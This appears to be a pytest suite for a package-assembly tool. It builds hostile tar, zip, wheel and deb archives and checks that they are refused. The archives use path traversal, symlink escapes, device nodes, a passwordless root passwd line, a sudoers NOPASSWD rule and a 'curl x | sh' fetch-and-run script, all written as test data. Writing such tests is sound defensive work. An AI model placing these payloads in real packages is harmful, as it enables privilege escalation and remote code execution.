"""A corpus of hostile and broken archives (built here with tarfile, zipfile and ar), each refused
with an error naming the input and the path, or normalized by a documented rule (staging R1–R12)."""

from __future__ import annotations

import base64
import hashlib
import io
import stat
import tarfile
import warnings
import zipfile
from pathlib import Path

import pytest

from enginefab.assemble.archives import stage_archive
from enginefab.assemble.debs import stage_deb
from enginefab.assemble.staging import Meta, Staging
from enginefab.assemble.wheels import stage_wheel
from enginefab.core.definition import Input
from enginefab.core.errors import UnsafeArchiveError
from enginefab.core.pytarget import scheme_for

SITE = "/usr/local/lib/python3.9/dist-packages"
SCHEME = scheme_for(SITE, "/usr/local/bin", "3.9")


# -- archive makers ------------------------------------------------------------------------


def noise(n: int) -> bytes:
    """Incompressible, reproducible bytes (so that truncating the archive cuts into them)."""
    return b"".join(hashlib.sha256(i.to_bytes(4, "big")).digest() for i in range(n // 32 + 1))[:n]


def member(name: str, data: bytes | None = b"x", *, type=tarfile.REGTYPE, mode=0o644, linkname="",
           devmajor=0, devminor=0) -> tuple[tarfile.TarInfo, bytes | None]:
    ti = tarfile.TarInfo(name)
    ti.type, ti.mode, ti.linkname, ti.mtime = type, mode, linkname, 1
    ti.devmajor, ti.devminor = devmajor, devminor
    if type == tarfile.REGTYPE and data is not None:
        ti.size = len(data)
    else:
        data = None
    return ti, data


def tar_bytes(members, compression: str = "") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=f"w:{compression}" if compression else "w",
                      format=tarfile.PAX_FORMAT, encoding="utf-8", errors="surrogateescape") as tf:
        for ti, data in members:
            tf.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def ar_bytes(members: dict[str, bytes]) -> bytes:
    out = [b"!<arch>\n"]
    for name, data in members.items():
        hdr = f"{name:<16}{0:<12}{0:<6}{0:<6}{0o100644:<8o}{len(data):<10}`\n".encode()
        assert len(hdr) == 60
        out += [hdr, data, b"\n" if len(data) % 2 else b""]
    return b"".join(out)


def deb_bytes(data_members=None, *, with_data: bool = True) -> bytes:
    control = tar_bytes([member("./control", b"Package: evil\nVersion: 1\n")], "gz")
    members = {"debian-binary": b"2.0\n", "control.tar.gz": control}
    if with_data:
        members["data.tar.gz"] = tar_bytes(data_members or [member("./usr/share/doc/evil/README", b"hi")], "gz")
    return ar_bytes(members)


def zip_bytes(entries: list[tuple[str, bytes, int]]) -> bytes:
    """entries: (name, data, unix st_mode)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate names we write on purpose
        for name, data, mode in entries:
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.external_attr = mode << 16
            zf.writestr(zi, data)
    return buf.getvalue()


def wheel_bytes(files: dict[str, bytes], *, record_lie: str | None = None, symlink: str | None = None,
                duplicate: str | None = None) -> bytes:
    """A real-format wheel for `evil 1.0` with a correct RECORD unless told to lie."""
    files = dict(files)
    dist = "evil-1.0.dist-info"
    files[f"{dist}/METADATA"] = b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
    files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    rows = []
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        if name == record_lie:
            digest = base64.urlsafe_b64encode(hashlib.sha256(b"other").digest()).rstrip(b"=").decode()
        rows.append(f"{name},sha256={digest},{len(data)}")
    rows.append(f"{dist}/RECORD,,")
    entries = [(n, d, 0o100644) for n, d in files.items()]
    if symlink:
        entries.append((symlink, b"/etc/passwd", 0o120777))
    if duplicate:
        entries.append((duplicate, b"second copy", 0o100644))
    entries.append((f"{dist}/RECORD", ("\n".join(rows) + "\n").encode(), 0o100644))
    return zip_bytes(entries)


# -- running one case ------------------------------------------------------------------------


def stage(tmp_path: Path, kind: str, data: bytes, filename: str) -> Staging:
    src = tmp_path / filename
    src.write_bytes(data)
    st = Staging(tmp_path / "stage")
    st.root.mkdir()
    label = f"{kind}:{filename}"
    if kind == "deb":
        stage_deb(st, src, Input(kind="deb", name="evil", version="1", url=None, sha256="0" * 64, size=len(data),
                                 filename=filename))
    elif kind == "wheel":
        stage_wheel(st, src, Input(kind="wheel", name="evil", version="1.0", url=None, sha256="0" * 64,
                                   size=len(data), filename=filename), SCHEME, "/usr/bin/python3.9")
    else:
        stage_archive(st, src, input=label, dest="/opt/x", filename=filename, unpack=True)
    return st


T = tarfile
REFUSED = {
    # id: (kind, archive bytes, file name, words the message must contain)
    "absolute-path": ("url", tar_bytes([member("/etc/cron.d/evil")]), "a.tar", ["/etc/cron.d/evil", "absolute"]),
    "dot-dot": ("url", tar_bytes([member("a/../../../etc/shadow")]), "a.tar", ["a/../../../etc/shadow", ".."]),
    "symlink-escape": ("url", tar_bytes([member("a/up", type=T.SYMTYPE, linkname="../../../../etc")]), "a.tar",
                       ["/opt/x/a/up", "outside the image root"]),
    "write-through-symlink": ("url", tar_bytes([member("lib", type=T.SYMTYPE, linkname="/etc"),
                                                member("lib/passwd", b"root::0:0::/:/bin/sh\n")]), "a.tar",
                              ["opt/x/lib/passwd", "through the symlink"]),
    "char-device": ("url", tar_bytes([member("dev/mem", type=T.CHRTYPE, devmajor=1, devminor=1)]), "a.tar",
                    ["/opt/x/dev/mem", "device node"]),
    "block-device": ("url", tar_bytes([member("sda", type=T.BLKTYPE, devmajor=8)]), "a.tar",
                     ["/opt/x/sda", "device node"]),
    "fifo": ("url", tar_bytes([member("pipe", type=T.FIFOTYPE)]), "a.tar", ["/opt/x/pipe", "FIFO"]),
    "conflicting-duplicate": ("url", tar_bytes([member("etc/conf", b"one"), member("etc/conf", b"two")]), "a.tar",
                              ["/opt/x/etc/conf", "twice"]),
    "file-then-directory": ("url", tar_bytes([member("thing", b"file"), member("thing/inside", b"x")]), "a.tar",
                            ["thing", "directory"]),
    "dangling-hard-link": ("url", tar_bytes([member("b", type=T.LNKTYPE, linkname="missing")]), "a.tar",
                           ["/opt/x/b", "hard link"]),
    "hard-link-to-directory": ("url", tar_bytes([member("d", type=T.DIRTYPE, mode=0o755),
                                                 member("h", type=T.LNKTYPE, linkname="d")]), "a.tar",
                               ["/opt/x/h", "hard link"]),
    "non-utf8-name": ("url", tar_bytes([member("caf\udce9.txt")]), "a.tar", ["caf", "UTF-8"]),
    "component-too-long": ("url", tar_bytes([member("d/" + "n" * 300)]), "a.tar", ["too long"]),
    "truncated-tar-gz": ("url", tar_bytes([member("big", noise(100_000))], "gz")[:3000], "a.tar.gz",
                         ["truncated or corrupt"]),
    "zip-duplicate-names": ("url", zip_bytes([("a.txt", b"1", 0o100644), ("a.txt", b"2", 0o100644)]), "a.zip",
                            ["a.txt", "twice"]),
    "zip-symlink-escape": ("url", zip_bytes([("up", b"../../../../../root", 0o120777)]), "a.zip",
                           ["/opt/x/up", "outside the image root"]),
    "zip-absolute": ("url", zip_bytes([("/etc/evil", b"1", 0o100644)]), "a.zip", ["/etc/evil", "absolute"]),
    "zip-device": ("url", zip_bytes([("null", b"", 0o020666)]), "a.zip", ["/opt/x/null", "special"]),
    "truncated-zip": ("url", zip_bytes([("a.txt", b"x" * 5000, 0o100644)])[:-30], "a.zip", ["truncated or corrupt"]),
    "wheel-record-mismatch": ("wheel", wheel_bytes({"evil/__init__.py": b"print('hi')\n"},
                                                   record_lie="evil/__init__.py"),
                              "evil-1.0-py3-none-any.whl", ["RECORD", "evil/__init__.py"]),
    "wheel-symlink": ("wheel", wheel_bytes({"evil/__init__.py": b""}, symlink="evil/passwd"),
                      "evil-1.0-py3-none-any.whl", ["evil/passwd", "symlink"]),
    "wheel-dot-dot": ("wheel", wheel_bytes({"../../../etc/profile.d/evil.sh": b"curl x | sh\n"}),
                      "evil-1.0-py3-none-any.whl", ["../../../etc/profile.d/evil.sh", "escapes"]),
    "wheel-duplicate-names": ("wheel", wheel_bytes({"evil/__init__.py": b""}, duplicate="evil/__init__.py"),
                              "evil-1.0-py3-none-any.whl", ["evil/__init__.py", "twice"]),
    "wheel-truncated": ("wheel", wheel_bytes({"evil/__init__.py": b"x" * 4000})[:-40], "evil-1.0-py3-none-any.whl",
                        ["truncated or corrupt"]),
    "deb-truncated": ("deb", deb_bytes([member("./usr/lib/libbig.so", noise(200_000))])[:9000],
                      "evil_1_amd64.deb", ["truncated or corrupt"]),
    "deb-without-data-tar": ("deb", deb_bytes(with_data=False), "evil_1_amd64.deb", ["no data.tar"]),
    "deb-not-an-ar-archive": ("deb", b"PK\x03\x04 this is a zip, not a deb", "evil_1_amd64.deb",
                              ["not a Debian package"]),
    "deb-device-node": ("deb", deb_bytes([member("./dev/kmem", type=T.CHRTYPE, devmajor=1, devminor=2)]),
                        "evil_1_amd64.deb", ["/dev/kmem", "device node"]),
    "deb-absolute-path": ("deb", deb_bytes([member("/etc/sudoers.d/evil", b"ALL ALL=(ALL) NOPASSWD: ALL\n")]),
                          "evil_1_amd64.deb", ["/etc/sudoers.d/evil", "absolute"]),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_hostile_archive_is_refused_naming_input_and_path(case, tmp_path):
    kind, data, filename, words = REFUSED[case]
    with pytest.raises(UnsafeArchiveError) as ei:
        stage(tmp_path, kind, data, filename)
    e = ei.value
    expected_input = {"deb": "deb:evil==1", "wheel": "wheel:evil==1.0"}.get(kind, f"url:{filename}")
    assert e.input == expected_input, e
    for w in words:
        assert w in e.message, f"{w!r} not in: {e.message}"
    assert str(e).startswith(f"input {expected_input}: ")  # what the CLI prints


def _meta(st: Staging, rel: str) -> Meta:
    return st.meta[rel]


def test_setuid_and_group_write_bits_are_cleared_and_reported(tmp_path):
    data = tar_bytes([member("bin/su", b"\x7fELF", mode=0o4755), member("bin/wall", b"\x7fELF", mode=0o2775),
                      member("shared", type=T.DIRTYPE, mode=0o777), member("tmp", type=T.DIRTYPE, mode=0o1777),
                      member("notes.txt", b"x", mode=0o666)])
    st = stage(tmp_path, "url", data, "a.tar")
    assert _meta(st, "opt/x/bin/su").mode == 0o755
    assert _meta(st, "opt/x/bin/wall").mode == 0o755
    assert _meta(st, "opt/x/shared").mode == 0o755
    assert _meta(st, "opt/x/tmp").mode == 0o1777  # sticky directories keep their bits
    assert _meta(st, "opt/x/notes.txt").mode == 0o644
    assert any("/opt/x/bin/su" in n and "setuid" in n for n in st.notes), st.notes


def test_identical_duplicates_merge_and_absolute_symlinks_are_kept(tmp_path):
    data = tar_bytes([member("a", b"same"), member("a", b"same"),
                      member("bin/true", type=T.SYMTYPE, linkname="/usr/bin/true")])
    st = stage(tmp_path, "url", data, "a.tar")
    assert (st.root / "opt/x/a").read_bytes() == b"same"
    assert (st.root / "opt/x/bin/true").readlink() == Path("/usr/bin/true")


def test_directory_metadata_conflict_resolves_independently_of_order(tmp_path):
    """R11: two inputs declare one directory differently: the first label wins, in any order."""
    a = tmp_path / "a.tar"
    b = tmp_path / "b.tar"
    a.write_bytes(tar_bytes([member("srv", type=T.DIRTYPE, mode=0o700)]))
    b.write_bytes(tar_bytes([member("srv", type=T.DIRTYPE, mode=0o755), member("srv/f", b"x")]))
    metas = []
    for order in ((a, b), (b, a)):
        st = Staging(tmp_path / f"s{len(metas)}")
        st.root.mkdir()
        for src in order:
            stage_archive(st, src, input=f"url:{src.name}", dest="/", filename=src.name, unpack=True)
        metas.append(st.meta["srv"])
    assert metas[0] == metas[1] == Meta(0o700)

